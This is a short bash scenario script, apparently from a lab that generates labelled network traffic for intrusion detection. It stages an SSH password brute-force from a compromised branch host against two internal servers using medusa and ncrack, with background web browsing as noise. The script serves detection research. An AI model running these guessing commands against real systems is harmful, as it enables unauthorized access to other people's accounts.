# branch-3, 10.51.0.103, taken over, guesses the password of "deploy" through the VPN: on the file server
# with medusa, then on the application server with ncrack.
topology=branch
file=branch-passwords.pcap.gz
class=bruteforce
family=ssh-medusa-ncrack
rule="CONN:10.50.0.30:22:bruteforce;CONN:10.50.0.20:22:bruteforce"
tools=(medusa:medusa ncrack:ncrack)

play() {
  both_pages 130
  sleep 20
  write_guesses
  inside branch-3 timeout 70 medusa -h 10.50.0.30 -u deploy -P "$work/guesses" -M ssh -t 3 -f >"$work/medusa.log" 2>&1 || true
  sleep 5
  head -40 "$work/guesses" >"$work/few"
  inside branch-3 timeout 60 ncrack -v --user deploy -P "$work/few" ssh://10.50.0.20 >"$work/ncrack.log" 2>&1 || true
  grep -h -e 'ACCOUNT FOUND' -e 'Discovered' -e '^Ncrack done' "$work/medusa.log" "$work/ncrack.log" || true
  sleep 10
}

both_pages() { # SECONDS: as both_sites, but nobody copies files, for every ssh flow is hostile here
  local host end=$((SECONDS + $1))
  for host in desk-1 desk-2 branch-1 branch-2; do
    while ((SECONDS < end)); do
      read_pages "$host" "https://app.office.example/page$((RANDOM % 6)).html" https://app.office.example/style.css
      sleep "$((4 + RANDOM % 9))"
    done &
  done
}
